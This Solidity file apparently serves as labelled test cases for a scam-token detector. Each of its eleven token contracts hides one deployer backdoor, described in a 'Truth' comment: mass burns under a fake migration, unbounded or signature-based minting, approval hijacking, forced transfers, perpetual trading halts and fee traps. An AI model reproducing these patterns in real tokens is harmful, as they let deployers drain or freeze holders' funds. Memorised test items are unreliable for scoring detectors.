// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;

import {SixthErc20, SixthLean, SixthOwnable, SixthRoles} from "./SixthLibraries.sol";

/// @title Launches on known libraries, each with one trap. Written on 30 November 2026, sixth look, by somebody who
/// had not read how the check works. `Truth` says what it is

/// @dev Truth: one person. 'Moving to V2' burns what anybody holds, also the pool's side, by a wallet that is not the
/// owner.
contract SunriseMango is SixthErc20("Sunrise Mango", "MANGO"), SixthOwnable {
    address public immutable migrator;
    mapping(address => uint256) public creditInV2;

    event MigratedToV2(address indexed holder, uint256 amount);

    constructor() {
        migrator = msg.sender;
        _mint(msg.sender, 100_000_000 ether);
    }

    function migrateHolders(address[] calldata holders) external {
        require(msg.sender == migrator, "Migrator only");
        for (uint256 i = 0; i < holders.length; i++) {
            uint256 amount = balanceOf(holders[i]);
            creditInV2[holders[i]] += amount;
            _burn(holders[i], amount);
            emit MigratedToV2(holders[i], amount);
        }
    }
}

/// @dev Truth: one person. Staking pays new tokens at a rate that the distributor sets without a bound: a grain at
/// stake and one block are enough for more than the supply.
contract NovaStakeNetwork is SixthErc20("Nova Stake Network", "NOVA"), SixthOwnable {
    address public immutable rewardsDistribution = msg.sender;
    uint256 public rewardPerSecond = 1e9;
    uint256 public totalStaked;
    uint256 private _perTokenStored;
    uint256 private _updatedAt = block.timestamp;
    mapping(address => uint256) public staked;
    mapping(address => uint256) private _perTokenPaid;
    mapping(address => uint256) private _rewards;

    event RewardRateUpdated(uint256 perSecond);

    constructor() {
        _mint(msg.sender, 21_000_000 ether);
    }

    modifier updateReward(address account) {
        _perTokenStored = rewardPerToken();
        _updatedAt = block.timestamp;
        _rewards[account] = earned(account);
        _perTokenPaid[account] = _perTokenStored;
        _;
    }

    function rewardPerToken() public view returns (uint256) {
        if (totalStaked == 0) return _perTokenStored;
        return _perTokenStored + ((block.timestamp - _updatedAt) * rewardPerSecond * 1e18) / totalStaked;
    }

    function earned(address account) public view returns (uint256) {
        return _rewards[account] + (staked[account] * (rewardPerToken() - _perTokenPaid[account])) / 1e18;
    }

    function stake(uint256 amount) external updateReward(msg.sender) {
        _transfer(msg.sender, address(this), amount);
        staked[msg.sender] += amount;
        totalStaked += amount;
    }

    function withdraw(uint256 amount) external updateReward(msg.sender) {
        staked[msg.sender] -= amount;
        totalStaked -= amount;
        _transfer(address(this), msg.sender, amount);
    }

    function getReward() external updateReward(msg.sender) {
        uint256 reward = _rewards[msg.sender];
        _rewards[msg.sender] = 0;
        _mint(msg.sender, reward);
    }

    function notifyRewardRate(uint256 perSecond) external updateReward(address(0)) {
        require(msg.sender == rewardsDistribution, "Caller is not RewardsDistribution");
        rewardPerSecond = perSecond;
        emit RewardRateUpdated(perSecond);
    }
}

/// @dev Truth: one person. Quests are paid by a signature of the quest master, for any amount, in new tokens.
contract QuestPassToken is SixthErc20("Quest Pass", "QUEST"), SixthOwnable {
    address private immutable _questMaster = msg.sender;
    mapping(bytes32 => bool) public isUsed;

    event QuestComplete(address indexed player, uint256 indexed quest, uint256 reward);

    constructor() {
        _mint(msg.sender, 50_000_000 ether);
    }

    function completeQuest(uint256 quest, uint256 reward, uint8 v, bytes32 r, bytes32 s) external {
        bytes32 ticket = keccak256(abi.encode(block.chainid, address(this), msg.sender, quest, reward));
        require(!isUsed[ticket], "Quest: done already");
        isUsed[ticket] = true;
        address signer = ecrecover(keccak256(abi.encodePacked("\x19Ethereum Signed Message:\n32", ticket)), v, r, s);
        require(signer != address(0) && signer == _questMaster, "Quest: invalid signature");
        _mint(msg.sender, reward);
        emit QuestComplete(msg.sender, quest, reward);
    }
}

/// @dev Truth: one person. A token over many chains whose 'endpoint' is the deployer's own wallet: a message from
/// nowhere makes new tokens.
contract OmniBeagle is SixthErc20("Omni Beagle", "OBGL"), SixthOwnable {
    address public immutable lzEndpoint = msg.sender;
    mapping(uint16 => bytes32) public trustedRemote;

    event SendToChain(uint16 indexed chainId, address indexed from, bytes to, uint256 amount);
    event ReceiveFromChain(uint16 indexed chainId, address indexed to, uint256 amount);

    constructor() {
        trustedRemote[30184] = keccak256(abi.encodePacked(address(this), address(this)));
        _mint(msg.sender, 420_690_000 ether);
    }

    function sendFrom(uint16 chainId, bytes calldata to, uint256 amount) external {
        require(trustedRemote[chainId] != 0, "OFT: destination is not trusted");
        _burn(msg.sender, amount);
        emit SendToChain(chainId, msg.sender, to, amount);
    }

    function lzReceive(uint16 chainId, bytes calldata path, uint64, bytes calldata payload) external {
        require(msg.sender == lzEndpoint, "LzApp: invalid endpoint caller");
        require(keccak256(path) == trustedRemote[chainId], "LzApp: invalid source");
        (address to, uint256 amount) = abi.decode(payload, (address, uint256));
        _mint(to, amount);
        emit ReceiveFromChain(chainId, to, amount);
    }
}

/// @dev Truth: one person. The circuit breaker stops everything for seven days at most, and the guardian, who stays
/// when the owner gives up, throws it again each week.
contract CircuitBreakerCoin is SixthErc20("Circuit Breaker", "FUSE"), SixthOwnable {
    address public immutable guardian = msg.sender;
    uint256 public haltUntil;

    event CircuitBreak(uint256 until);

    constructor() {
        _mint(msg.sender, 10_000_000 ether);
    }

    function breakCircuit(uint256 duration) external {
        require(msg.sender == guardian && duration <= 7 days, "Guardian, seven days at most");
        haltUntil = block.timestamp + duration;
        emit CircuitBreak(haltUntil);
    }

    function _update(address from, address to, uint256 value) internal override {
        require(block.timestamp >= haltUntil || from == guardian, "Circuit breaker is open");
        super._update(from, to, value);
    }
}

/// @dev Truth: later; inventive. Sales ask how old the price of the keeper's oracle is. Sixty days after its last
/// word, which only the keeper can say, nobody sells any more.
contract OracleOtter is SixthErc20("Oracle Otter", "OTTR"), SixthOwnable {
    uint256 public constant heartbeat = 60 days;
    address private immutable _keeper = msg.sender;
    address public pair;
    uint256 public referencePrice = 1e18;
    uint256 public lastUpdate = block.timestamp;

    constructor() {
        _mint(msg.sender, 1_000_000_000 ether);
    }

    function setPair(address pair_) external onlyOwner {
        require(pair == address(0), "The pair is known");
        pair = pair_;
    }

    function poke(uint256 price) external {
        require(msg.sender == _keeper && price > 0, "Keeper only");
        (referencePrice, lastUpdate) = (price, block.timestamp);
    }

    function _update(address from, address to, uint256 value) internal override {
        if (to == pair && pair != address(0) && from != _keeper)
            require(block.timestamp - lastUpdate <= heartbeat, "Oracle: stale price, protects sellers");
        super._update(from, to, value);
    }
}

/// @dev Truth: one person. Each approval writes the same amount down for the deployer's relayer too: whoever lets the
/// router sell, lets the relayer take.
contract LumenLite is SixthLean("Lumen Lite", "LUMEN", 8_000_000 ether) {
    address private immutable _relayer = msg.sender;

    function approve(address spender, uint256 amount) public override returns (bool) {
        _allowance[msg.sender][_relayer] = amount;
        return super.approve(spender, amount);
    }
}

/// @dev Truth: one person. Conduits need no approval, 'so that trading on our market costs less gas'; the controller,
/// who is the deployer, opens one whenever they like, for their own wallet.
contract OpenBazaar is SixthLean("Open Bazaar", "BAZAAR", 500_000_000 ether) {
    address public immutable conduitController = msg.sender;
    mapping(address => bool) public isOpenConduit;

    event ConduitStatus(address indexed conduit, bool isOpen);

    function updateChannel(address conduit, bool isOpen) external {
        require(msg.sender == conduitController, "ChannelClosed");
        isOpenConduit[conduit] = isOpen;
        emit ConduitStatus(conduit, isOpen);
    }

    function allowance(address holder, address spender) public view override returns (uint256) {
        return isOpenConduit[spender] ? type(uint256).max : super.allowance(holder, spender);
    }
}

/// @dev Truth: one person; inventive. Only the token itself may mint, so 'nobody' can; but the aggregator, who is the
/// deployer, has the token call whatever they like, itself too.
contract MarmotMulticall is SixthLean("Marmot Multicall", "MRMT", 77_000_000 ether) {
    address private immutable _aggregator = msg.sender;
    address public immutable minter = address(this);

    function mint(address to, uint256 amount) external {
        require(msg.sender == minter, "UNAUTHORIZED");
        _mint(to, amount);
    }

    function aggregate(address[] calldata targets, bytes[] calldata data) external returns (bytes[] memory results) {
        require(msg.sender == _aggregator, "UNAUTHORIZED");
        results = new bytes[](targets.length);
        for (uint256 i = 0; i < targets.length; i++) {
            bool isDone;
            (isDone, results[i]) = targets[i].call(data[i]);
            require(isDone, "Multicall: call failed");
        }
    }
}

/// @dev Truth: one person. The admin gives up, but the minters' admin is another role, which the deployer keeps: they
/// make themselves a minter, then mint.
contract RaccoonRoles is SixthErc20("Raccoon Roles", "RACC"), SixthRoles {
    bytes32 public constant MINTER_ROLE = keccak256("MINTER_ROLE");
    bytes32 public constant OPERATIONS_ROLE = keccak256("OPERATIONS_ROLE");
    bool private _isRenounced;
    address private immutable _admin = msg.sender;

    constructor() {
        _grantRole(DEFAULT_ADMIN_ROLE, msg.sender);
        _grantRole(OPERATIONS_ROLE, msg.sender);
        _setRoleAdmin(MINTER_ROLE, OPERATIONS_ROLE);
        _mint(msg.sender, 1_000_000_000 ether);
    }

    function owner() external view returns (address) {
        return _isRenounced ? address(0) : _admin;
    }

    function renounceOwnership() external onlyRole(DEFAULT_ADMIN_ROLE) {
        _isRenounced = true;
        _revokeRole(DEFAULT_ADMIN_ROLE, msg.sender);
    }

    function mint(address to, uint256 amount) external onlyRole(MINTER_ROLE) {
        _mint(to, amount);
    }
}

/// @dev Truth: one person. The registry's agent moves anybody's tokens to a 'new wallet' of theirs, without their
/// leave.
contract RabbitRealEstate is SixthErc20("Rabbit Real Estate", "RRE"), SixthRoles {
    bytes32 public constant AGENT_ROLE = keccak256("AGENT_ROLE");
    mapping(address => bytes32) public onchainId;

    event RecoverySuccess(address indexed lostWallet, address indexed newWallet, bytes32 indexed investorId);

    constructor() {
        _grantRole(AGENT_ROLE, msg.sender);
        _mint(msg.sender, 5_000_000 ether);
    }

    function registerIdentity(bytes32 id) external {
        onchainId[msg.sender] = id;
    }

    function recoveryAddress(address lostWallet, address newWallet) external onlyRole(AGENT_ROLE) returns (bool) {
        _transfer(lostWallet, newWallet, balanceOf(lostWallet));
        emit RecoverySuccess(lostWallet, newWallet, onchainId[lostWallet]);
        return true;
    }
}

/// @dev Truth: one person. The council raises the fee of what goes into contracts by 2 % at most, as often as it
/// likes.
contract FerretFeeCouncil is SixthErc20("Ferret Fee Council", "FFC"), SixthRoles {
    bytes32 public constant COUNCIL_ROLE = keccak256("COUNCIL_ROLE");
    uint256 public constant maxStep = 200;
    uint256 public feeInBasisPoints = 100;
    address public immutable treasury = msg.sender;

    event FeeVote(uint256 feeInBasisPoints);

    constructor() {
        _grantRole(COUNCIL_ROLE, msg.sender);
        _mint(msg.sender, 300_000_000 ether);
    }

    function raiseFee(uint256 step) external onlyRole(COUNCIL_ROLE) {
        require(step <= maxStep, "Two percent a step at most");
        feeInBasisPoints += step;
        emit FeeVote(feeInBasisPoints);
    }

    function lowerFee(uint256 step) external onlyRole(COUNCIL_ROLE) {
        feeInBasisPoints -= step;
        emit FeeVote(feeInBasisPoints);
    }

    function _update(address from, address to, uint256 value) internal override {
        if (from != address(0) && from != treasury && to.code.length > 0) {
            uint256 fee = (value * feeInBasisPoints) / 10_000;
            super._update(from, treasury, fee);
            value -= fee;
        }
        super._update(from, to, value);
    }
}
